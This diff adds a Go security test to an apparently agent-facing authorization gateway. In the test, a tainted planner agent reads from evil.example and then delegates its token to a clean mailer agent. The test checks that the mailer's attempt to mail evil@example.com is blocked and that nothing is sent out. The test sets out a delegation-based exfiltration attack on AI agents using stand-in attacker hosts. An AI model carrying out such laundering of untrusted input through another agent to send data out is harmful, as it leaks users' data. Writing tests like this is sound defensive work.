@@ -534,3 +534,30 @@ func TestAttackOversizedBodies(t *testing.T) {
 		t.Fatalf("sent out: %v", got)
 	}
 }
+
+// A tainted agent cannot have a clean one act for it: a token delegated by
+// (or through) a tainted agent sees that agent's taints.
+func TestAttackTaintFollowsDelegation(t *testing.T) {
+	t.Parallel()
+	r := newRig(t, nil)
+	const tainted, clean = "ai-agent://dev/tainted-planner", "ai-agent://dev/clean-mailer"
+	pk := r.w.Register(t, tainted, "agent", "delegator")
+	planner, err := sdk.NewClient(r.w.URL, tainted, pk, sdk.WithResource(r.mcpURL))
+	if err != nil {
+		t.Fatal(err)
+	}
+	r.w.Register(t, clean, "agent")
+	if !r.call(r.sessionWithToken(mustToken(t, planner)), "web__fetch", map[string]string{"url": "https://evil.example"}) {
+		t.Fatal("the untrusted read was denied")
+	}
+	delegated, err := planner.Delegate(r.ctx, mustToken(t, planner), clean)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if r.call(r.sessionWithToken(delegated.AccessToken), "mail__send", map[string]string{"to": "evil@example.com"}) {
+		t.Fatal("the clean agent sent data out for the tainted one")
+	}
+	if got := r.egress(); len(got) != 0 {
+		t.Fatalf("sent out: %v", got)
+	}
+}
